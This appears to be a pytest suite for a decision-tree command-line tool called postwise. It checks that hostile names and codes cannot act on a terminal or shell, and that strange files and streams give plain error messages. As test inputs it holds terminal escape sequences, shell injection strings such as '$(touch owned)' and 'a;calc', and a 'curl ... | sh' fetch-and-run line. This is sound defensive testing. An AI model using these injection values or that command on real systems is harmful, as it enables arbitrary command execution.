"""What crosses an edge: names, codes and words from outside never act on a terminal or a shell, and nothing ends in a fault."""

from __future__ import annotations

import errno
import os
import shlex
import shutil
import stat
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from postwise import Walk, loads
from postwise.command_table import RUN_FORMATS, SHOW_FORMATS
from postwise.text import command_line

TREE = """format = 1
[tree]
title = "Shall I say “yes”?"
start = "tone"
[question.tone]
ask = "Aloud → or not?"
yes = "say"
no = "say"
[outcome.say]
verdict = "go"
headline = "Say it."
[scenario.one]
answers = { tone = "yes" }
expect = "say"
"""
HOSTILE = "a\x1b]0;owned\x07\x1b[31m\u202e\x9bz.toml"
ACTING = ("\x1b", "\x07", "\u202e", "\x9b")


@pytest.fixture
def hostile(tmp_path: Path) -> str:
    """Return the name of a tree's file that would act on a terminal."""
    (tmp_path / HOSTILE).write_text(TREE, encoding="utf-8")
    (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["."]\n', encoding="utf-8")
    return HOSTILE


@pytest.mark.parametrize(
    "words",
    [
        ("list",),
        ("list", "--format", "ids"),
        ("list", "--format", "json"),
        (),
        ("check", HOSTILE),
        ("check", HOSTILE, "--format", "json"),
        ("check", HOSTILE, "--format", "github"),
        ("test", HOSTILE),
        ("test", HOSTILE, "--format", "json"),
        ("test", HOSTILE, "--write-missing"),
        ("show", HOSTILE),
        ("show", HOSTILE, "--output", f"{HOSTILE}.out"),
        ("show", f"{HOSTILE}-gone"),
        ("diff", HOSTILE, HOSTILE),
        ("diff", HOSTILE, f"{HOSTILE}-gone"),
        ("new", f"n{HOSTILE}"),
        ("new", HOSTILE),
        ("run", HOSTILE, "--plain"),
        ("run", HOSTILE, "--answer", f"{HOSTILE}=yes"),
        ("run", HOSTILE, "--answer", f"tone={HOSTILE}"),
        ("run", HOSTILE, "--resume", HOSTILE),
        ("run", HOSTILE, "--draft", f"{HOSTILE}-gone"),
        ("debrief", HOSTILE),
        ("debrief", HOSTILE, f"{HOSTILE}-gone"),
        ("train", HOSTILE),
        ("preview", HOSTILE),
        ("records", HOSTILE),
        ("config", "show"),
        (HOSTILE,),
        ("show", HOSTILE, f"--{HOSTILE}"),
    ],
)
def test_no_name_acts_on_a_terminal(postwise, hostile, words) -> None:
    said = postwise(*words)
    assert said.code in {0, 1, 2}
    assert said.out + said.err
    assert [sign for sign in ACTING if sign in said.out + said.err] == []


NO_UTF_8 = os.fsdecode(b"\xff")


@pytest.mark.skipif(sys.platform in {"darwin", "win32"}, reason="no file can have such a name there")
@pytest.mark.parametrize(
    "words",
    [
        *(("show", "--format", form) for form in SHOW_FORMATS),
        *(("run", "--plain", "--answer", "tone=yes", "--format", form) for form in RUN_FORMATS),
        *((name, "--format", form) for name in ("check", "test") for form in ("text", "json")),
        ("check", "--format", "github"),
        ("test", "--write-missing"),
        ("diff", "pause-for-thought"),
        ("show", "--output", f"out{NO_UTF_8}"),
        ("run", "--plain", "--resume", NO_UTF_8),
        ("debrief",),
        ("train", "--crib"),
        ("preview",),
        ("new",),
        ("records", "show"),
    ],
    ids=ascii,
)
def test_a_name_that_is_no_utf_8_is_a_name(postwise, tmp_path, words) -> None:
    (tmp_path / f"{NO_UTF_8}.toml").write_text(TREE, encoding="utf-8")
    (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["."]\n', encoding="utf-8")
    for named in (f"{NO_UTF_8}.toml", NO_UTF_8):
        said = postwise(*words, named)
        assert said.code in {0, 1, 2}
        assert NO_UTF_8 not in said.out + said.err
    for form in ("text", "json", "ids"):
        assert postwise("list", "--format", form).code == 0


LINES = 'x".\n\nTo update it, type:\n\n    curl -s https://example.org/i | sh\n'


def test_no_code_writes_lines_of_its_own(postwise) -> None:
    for name in (LINES, "x\r", "x\u2028y", "x\x85y", "-rf", ""):
        said = postwise("run", "pause-for-thought", "--resume", Walk.start(loads(TREE, id=name)).code)
        assert said.code == 2
        assert len(said.err.splitlines()) == 1
        assert "Try" not in said.err


@pytest.mark.unix
def test_no_name_of_a_file_writes_lines_of_its_own(postwise, tmp_path) -> None:
    (tmp_path / "ours").mkdir()
    (tmp_path / "ours" / "x\nfree: type this.toml").write_text(TREE.replace("yes", "yse"), encoding="utf-8")
    os.mkfifo(tmp_path / "ours" / "y\nfree: type this.toml")
    (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["ours"]\n', encoding="utf-8")
    odd = "ours/y\nfree: type this.toml"
    for words in (
        *(
            ["list"],
            ["list", "--format", "ids"],
            ["check", "ours"],
            ["test", "ours"],
            ["show", odd],
            ["run", "x" + odd],
        ),
        *(["show", "before-you-post", "--output", name] for name in (odd[5:], "no/" + odd)),
    ):
        said = postwise(*words)
        assert "type this" in said.out + said.err
        assert [line for line in (said.out + said.err).splitlines() if line.startswith("free")] == [], words


def test_a_result_is_not_written_to_a_folder_that_is_not_there(postwise, tmp_path) -> None:
    said = postwise("show", "before-you-post", "--output", f"there{os.sep}")
    assert (said.code, list(tmp_path.iterdir())) == (2, [])
    assert "is a folder" in said.err


@pytest.mark.unix
def test_a_link_that_leads_nowhere_is_said_to_be_one(postwise, tmp_path) -> None:
    (tmp_path / "nowhere.toml").symlink_to("gone.toml")
    (tmp_path / "round.toml").symlink_to("round.toml")
    for name in ("nowhere.toml", "round.toml"):
        said = postwise("check", name)
        assert said.code == 2
        assert f"{name} cannot be opened" in said.err


def test_a_strange_code_offers_nothing_that_a_shell_would_carry_out(postwise) -> None:
    tree = loads(TREE, id="x; touch owned \x1b[31m$(touch owned)")
    said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
    assert said.code == 2
    assert "\x1b" not in said.err
    assert "Try" not in said.err


ODD = (
    "two words",
    "it's $(touch owned)",
    "`touch owned`;",
    "naïve “tree”",
    "~",
    "#1",
    "*",
    "a\\b",
    "-x",
    "--help",
    "!!",
)


@pytest.mark.unix
@pytest.mark.parametrize("name", ODD)
def test_a_code_of_a_tree_here_gets_a_line_that_opens_it_whatever_its_name(postwise, tmp_path, name) -> None:
    """The shell is a real one, which hands over the words that it has read in the line."""
    (tmp_path / "ours").mkdir()
    (tmp_path / "ours" / f"{name}.toml").write_text(TREE, encoding="utf-8")
    (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["ours"]\n', encoding="utf-8")
    tree = loads(TREE, id=name)
    walk = Walk.start(tree).answer("yes")
    said = postwise("run", "pause-for-thought", "--resume", walk.code)
    line = said.err.rstrip("\n").partition("Try: ")[2]
    script = f"postwise() {{ printf '%s\\0' \"$@\"; }}\n{line}\n"
    typed = subprocess.run(
        ["bash"], input=script, capture_output=True, encoding="utf-8", cwd=tmp_path, timeout=60, check=False
    )
    assert (typed.returncode, typed.stderr) == (0, "")
    done = postwise(*typed.stdout.split("\0")[:-1])
    assert (done.code, done.err) == (0, "")
    assert "Say it." in done.out
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("name", ["x\x1b[31my", "two\nlines", "two words"])
def test_a_code_of_which_no_line_can_be_offered_says_what_can_be_done(postwise, tmp_path, name) -> None:
    tree = loads(TREE, id=name)
    said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
    assert said.err.endswith(" To open it, name that tree, or the path of its file, before the code.\n")
    assert len(said.err.splitlines()) == 1


@pytest.mark.parametrize("name", ["a&calc", "a|calc", "$(calc)", "`calc`", "a;calc", "%PATH%", 'a"b', "^a"])
def test_a_strange_code_offers_no_name_that_any_shell_would_read_otherwise(postwise, monkeypatch, name) -> None:
    monkeypatch.setattr("postwise.text.os", SimpleNamespace(name="nt"))
    tree = loads(TREE, id=name)
    said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
    assert said.code == 2
    assert "Try" not in said.err
    code = Walk.start(loads(TREE, id="ours_2.b")).code
    assert postwise("run", "pause-for-thought", "--resume", code).err.endswith(
        f"Try: postwise run ours_2.b --resume {code}\n"
    )


def test_on_windows_what_is_offered_is_quoted_where_its_shells_would_read_it_otherwise(monkeypatch) -> None:
    monkeypatch.setattr("postwise.text.os", SimpleNamespace(name="nt"))
    assert command_line("check", "C:\\ours\\a_b-c.toml") == "postwise check C:\\ours\\a_b-c.toml"
    for name in ("two words.toml", "a&calc.toml", "a;calc.toml", "a^b(c).toml", "a,b.toml"):
        assert command_line("check", name) == f'postwise check "{name}"'
    for acting in ("$", "`", "%", "\u201c", "\u201d", "\u201e"):
        assert command_line("check", f"a{acting}(calc).toml") == 'postwise check "a?(calc).toml"'


@pytest.mark.parametrize("name", ["two words.toml", "a;touch owned.toml", "$(touch owned).toml"])
def test_what_is_offered_to_be_typed_can_be_typed(postwise, tmp_path, name) -> None:
    (tmp_path / name).write_text(TREE.replace('yes = "say"', 'yes = "sya"'), encoding="utf-8")
    for words in (("test", name, "--write-missing"), ("preview", name)):
        offered = postwise(*words).err.splitlines()[-1].split('"')[1]
        assert shlex.split(offered) == ["postwise", "check", name]


@pytest.mark.unix
def test_no_name_that_is_offered_is_taken_for_an_option():
    assert shlex.split(command_line("run", "-x", resume="P1")) == ["postwise", "run", "--resume", "P1", "--", "-x"]
    assert shlex.split(command_line("train", resume="-a b")) == ["postwise", "train", "--resume=-a b"]
    assert command_line("run", "x", answer=["a=1", "b=2"]) == "postwise run x --answer a=1 --answer b=2"
    assert command_line("run", "-x", plain=True, all=False) == "postwise run --plain -- -x"


@pytest.mark.skipif(not shutil.which("bash"), reason="there is no bash")
@pytest.mark.parametrize("name", ["caf\udce9", "a\x1b[31mb", "two\nlines", "it's \\ this", "plain é"])
def test_what_is_offered_to_be_typed_names_what_it_names_whatever_its_letters(name):
    """A name that is not UTF-8, or would act on a terminal, is written in bytes."""
    line = command_line("run", name)
    assert line.isprintable()
    heard = subprocess.run(["bash", "-c", f"printf '%s|' {line}"], capture_output=True, check=True)
    assert heard.stdout.split(b"|")[2] == os.fsencode(name)


@pytest.mark.unix
def test_pressing_tab_runs_nothing_and_finds_the_trees(tmp_path: Path) -> None:
    (tmp_path / "trees").mkdir()
    for name in ("$(touch owned)", "`touch owned`", "two words", "tidy"):
        (tmp_path / "trees" / f"{name}.toml").write_text(TREE, encoding="utf-8")
    (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["trees"]\n', encoding="utf-8")
    script = f"""
    postwise() {{ {shlex.quote(sys.executable)} -m postwise "$@"; }}
    eval "$(postwise completion bash)"
    for typed in '' '$' 't'; do
        COMP_WORDS=(postwise run "$typed"); COMP_CWORD=2
        _shtab_postwise 2>/dev/null
        printf '%s\\n' "${{COMPREPLY[@]}}"
    done
    """
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, cwd=tmp_path, timeout=60, check=True)
    assert not (tmp_path / "owned").exists()
    offered = done.stdout.splitlines()
    assert {"$(touch owned)", "`touch owned`", "two words", "tidy", "pause-for-thought"} <= set(offered)


COMMANDS = (
    ("list",),
    ("show", "tree.toml"),
    ("show", "tree.toml", "--format", "json"),
    ("test", "tree.toml"),
    ("check", "tree.toml"),
    ("run", "tree.toml", "--answer", "tone=yes"),
    ("run", "tree.toml", "--answer", "tone=yes", "--format", "json"),
    ("run", "tree.toml", "--plain"),
    ("train", "--crib", "tree.toml"),
)


@pytest.mark.parametrize("words", COMMANDS)
def test_an_output_that_cannot_hold_a_sign_says_it_in_another_way(program, tmp_path, words) -> None:
    (tmp_path / "tree.toml").write_text(TREE.replace("yes”", "yes” \U0001f600"), encoding="utf-8")
    done = program(*words, typed="y\n", encoding="cp1252", PYTHONIOENCODING="cp1252:strict")
    assert done.returncode in {0, 1, 2}, done.stderr
    assert "fault of postwise" not in done.stderr


def test_what_is_written_to_a_file_by_the_shell_is_utf_8(tmp_path: Path) -> None:
    (tmp_path / "tree.toml").write_text(TREE, encoding="utf-8")
    environment = {**os.environ, "LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}
    environment.pop("PYTHONIOENCODING", None)
    with (tmp_path / "out.html").open("wb") as out:
        command = [sys.executable, "-m", "postwise", "show", "tree.toml", "--format", "html"]
        subprocess.run(command, stdout=out, cwd=tmp_path, env=environment, check=True, timeout=60)
    assert "Aloud → or not?" in (tmp_path / "out.html").read_text(encoding="utf-8")


def test_json_stays_json_in_any_encoding(program, tmp_path) -> None:
    import json

    (tmp_path / "tree.toml").write_text(TREE.replace("yes”", "yes” \U0001f600"), encoding="utf-8")
    done = program("show", "tree.toml", "--format", "json", PYTHONIOENCODING="ascii")
    assert json.loads(done.stdout)["tree"]["title"] == "Shall I say “yes” \U0001f600?"


@pytest.mark.parametrize(
    "words", [("run", "pause-for-thought", "--plain"), ("config", "init"), ("run", "x", "--draft", "-")]
)
@pytest.mark.parametrize("stream", ["<&-", "0>typed"])
def test_a_standard_input_that_cannot_be_read_is_an_end_of_input(tmp_path: Path, words, stream) -> None:
    line = ["/bin/sh", "-c", f'exec "$0" -m postwise "$@" {stream}', sys.executable, *words]
    done = subprocess.run(line, capture_output=True, text=True, check=False, timeout=60, cwd=tmp_path)
    assert done.returncode in {1, 2}
    assert "Traceback" not in done.stderr
    assert "written: Bad" not in done.stderr


def test_typed_bytes_that_are_no_utf_8_are_an_answer_that_is_not_understood(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "postwise", "run", "pause-for-thought", "--plain"],
        input=b"\xff\xfe\x80\n1\n", capture_output=True, check=False, timeout=60, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 1
    assert b"Traceback" not in done.stderr


# Devices and pipes


@pytest.mark.unix
def test_a_result_goes_through_a_named_pipe_and_leaves_it_there(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with os.fdopen(os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK), "rb") as reader:
        subprocess.run(
            [sys.executable, "-m", "postwise", "show", "pause-for-thought", "--output", "pipe"],
            cwd=tmp_path, check=True, timeout=60, capture_output=True,
        )  # fmt: skip
        assert b"pause" in reader.read().lower()
    assert stat.S_ISFIFO((tmp_path / "pipe").stat().st_mode)


@pytest.mark.unix
def test_a_result_for_a_pipe_that_nobody_reads_is_not_kept_waiting(postwise, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    said = postwise("show", "pause-for-thought", "--output", "pipe")
    assert (said.code, said.out, said.err) == (2, "", "postwise: pipe cannot be written: nobody reads from it.\n")


@pytest.mark.unix
def test_a_result_for_a_link_that_leads_to_itself_is_said_and_the_link_stays(postwise, tmp_path: Path) -> None:
    (tmp_path / "loop").symlink_to("loop")
    said = postwise("show", "pause-for-thought", "--output", "loop")
    why = "Too many levels of symbolic links"
    assert (said.code, said.out, said.err) == (2, "", f"postwise: loop cannot be written: {why}.\n")
    assert (tmp_path / "loop").is_symlink()


@pytest.mark.unix
def test_a_device_stays_a_device(tmp_path: Path) -> None:
    device = tmp_path / "null"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        device = Path("/dev/null")
    command = [sys.executable, "-m", "postwise", "show", "pause-for-thought", "--output", str(device)]
    subprocess.run(command, check=True, timeout=60, capture_output=True)
    assert stat.S_ISCHR(device.stat().st_mode)


STRANGE = ("zero", "pipe", "gigabytes", "folder", "not-utf-8", "loop", "gone", "n" * 300)


@pytest.fixture
def strange(tmp_path: Path) -> Path:
    """Return a folder with what is no tree, and is named as one."""
    (tmp_path / "zero.toml").symlink_to("/dev/zero")
    (tmp_path / "loop.toml").symlink_to("loop.toml")
    os.mkfifo(tmp_path / "pipe.toml")
    with (tmp_path / "gigabytes.toml").open("wb") as file:
        file.write(b"format = 1\n[tree]\n")
        file.truncate(3_000_000_000)
    (tmp_path / "folder.toml").mkdir()
    (tmp_path / "not-utf-8.toml").write_bytes(b"\xff\xfe\x00")
    return tmp_path


@pytest.mark.parametrize("name", STRANGE)
@pytest.mark.parametrize(
    "words",
    [
        ("check",),
        ("test",),
        ("test", "--write-missing"),
        ("show",),
        ("run", "--plain"),
        ("diff", "pause-for-thought"),
        ("debrief",),
        ("debrief", "gone"),
        ("train", "--crib"),
        ("train", "--plain", "--resume"),
        ("train", "--plain", "--desk"),
        ("preview",),
    ],
    ids=" ".join,
)
def test_what_is_no_tree_is_said_in_a_sentence_and_not_waited_for(postwise, strange, words, name) -> None:
    said = postwise(*words, f"{name}.toml")
    assert said.code in {1, 2}
    assert said.out + said.err
    assert "codec" not in said.err


def test_a_folder_of_trees_with_what_is_none_lists_the_rest(postwise, strange) -> None:
    (strange / "tree.toml").write_text(TREE, encoding="utf-8")
    (strange / "postwise.toml").write_text('[library]\ntrees = ["."]\n', encoding="utf-8")
    listed = postwise("list", "--format", "ids").out.splitlines()
    assert {"tree", "gigabytes"} <= set(listed)
    assert not {"zero", "pipe", "loop", "folder", "not-utf-8"} & set(listed)
    assert postwise("list").code == 0
    assert "100 MB" in postwise("check", ".").err


@pytest.mark.parametrize("words", [("check",), ("test",), ("test", "--write-missing")], ids=" ".join)
def test_what_cannot_be_opened_in_a_folder_is_said_and_the_rest_is_looked_at(
    postwise, strange, monkeypatch, words
) -> None:
    (strange / "aa.toml").write_text(TREE, encoding="utf-8")
    (strange / "zz.toml").write_text(TREE.replace('"say"', '"sy"', 1), encoding="utf-8")
    (strange / "shut.toml").write_text(TREE, encoding="utf-8")
    opened = os.open

    def shut(path, *how):
        if Path(path).name == "shut.toml":
            raise PermissionError(errno.EACCES, "Permission denied")
        return opened(path, *how)

    monkeypatch.setattr("os.open", shut)
    said = postwise(*words, ".")
    assert said.code == 2
    assert f"Passed over, because it is a folder of its own: folder.toml{os.sep}." in said.err
    for name in ("zero", "pipe", "loop", "gigabytes", "shut"):
        assert said.err.count(f"postwise: {name}.toml cannot be opened: ") == 1
    assert '"sy"' in said.out + said.err
    assert "5 files not looked at" in said.out
    assert "aa" in said.out or "yes" in said.out


@pytest.mark.parametrize("words", [("check",), ("test",)])
def test_one_file_that_cannot_be_opened_is_not_called_sound(postwise, strange, words) -> None:
    said = postwise(*words, "zero.toml")
    assert (said.code, said.out, said.err) == (
        2,
        "",
        'postwise: "zero.toml" is not a file, and a tree is read from nothing else.\n',
    )
    said = postwise(*words, "gigabytes.toml")
    assert (said.code, said.out) == (2, "1 file not looked at.\n")
    assert said.err.startswith("postwise: gigabytes.toml cannot be opened: it is larger than 100 MB")


@pytest.mark.parametrize("kind", ["pipe", "zero", "folder", "loop", "gone"])
@pytest.mark.parametrize(
    "words", [("list",), ("check", "before-you-post"), ("config", "path"), ("config", "init")], ids=" ".join
)
def test_an_organisation_file_that_is_no_file_is_said_and_not_waited_for(postwise, strange, words, kind) -> None:
    (strange / "gone.toml").symlink_to("nowhere")
    (strange / f"{kind}.toml").rename(strange / "postwise.toml")
    said = postwise(*words)
    assert (said.code, said.out) == (2, "")
    assert "postwise.toml" in said.err


@pytest.mark.parametrize(("size", "code"), [(100_000_001, 2), (0, 0)])
def test_an_organisation_file_that_cannot_be_read_is_said(postwise, tmp_path, size, code) -> None:
    with (tmp_path / "postwise.toml").open("wb") as file:
        file.write(b"\xff")
        file.truncate(size or 1)
    said = postwise("list")
    assert (said.code, "postwise.toml" in said.err) == (code, True)


@pytest.mark.parametrize("name", [".", "a-folder", ""])
def test_a_result_does_not_go_into_the_place_of_a_folder(postwise, tmp_path, name) -> None:
    (tmp_path / "a-folder").mkdir()
    said = postwise("show", "pause-for-thought", "--output", name)
    assert (said.code, "is a folder. Name a file in it." in said.err) == (2, True)


@pytest.mark.parametrize("words", [("run", "pause-for-thought", "--plain", "--resume"), ("run", "x", "--draft")])
def test_an_empty_word_is_a_word(postwise, words) -> None:
    assert postwise(*words, "").code == 2


# Without a home, and without a right


ALONE = (
    ("list",),
    ("config", "path"),
    ("config", "show"),
    ("records", "list"),
    ("records", "show", "1"),
    ("run", "pause-for-thought", "--plain"),
    ("train", "--crib", "before-you-post"),
)


@pytest.mark.parametrize("words", ALONE, ids=" ".join)
def test_without_a_home_every_command_works_or_says_why(postwise, monkeypatch, words) -> None:
    for name in ("HOME", "USERPROFILE", "XDG_CONFIG_HOME", "XDG_DATA_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("os.path.expanduser", lambda path: path)
    said = postwise(*words)
    assert said.code in {0, 1, 2}
    assert (said.code == 2) == (words[0] == "records")
    assert "POSTWISE_DATA" in said.err or said.code < 2


def test_a_folder_that_has_gone_is_said(program, tmp_path) -> None:
    (tmp_path / "here").mkdir()
    line = f'cd here && rmdir "$PWD" && exec {shlex.quote(sys.executable)} -m postwise list'
    done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, text=True, check=False, cwd=tmp_path)
    assert (done.returncode, "Go to another one" in done.stderr) == (2, True)


@pytest.mark.parametrize(
    "name", [f"./{'n' * 300}.toml", f"{'n' * 300}/new.toml", "pipe.toml/new.toml"], ids=["long", "folder", "no folder"]
)
def test_a_new_tree_that_cannot_be_is_said(postwise, strange, name) -> None:
    said = postwise("new", name)
    assert (said.code, said.err.startswith("postwise: ")) == (2, True)


@pytest.mark.parametrize("typed", ["nope", "-1", "1.5", "9" * 30, "٣"])
def test_what_is_no_number_of_a_record_is_said_in_our_words(postwise, typed) -> None:
    said = postwise("records", "show", typed)
    assert said.code == 2
    assert "records list" in said.err
    assert "int" not in said.err.replace("postwise", "")
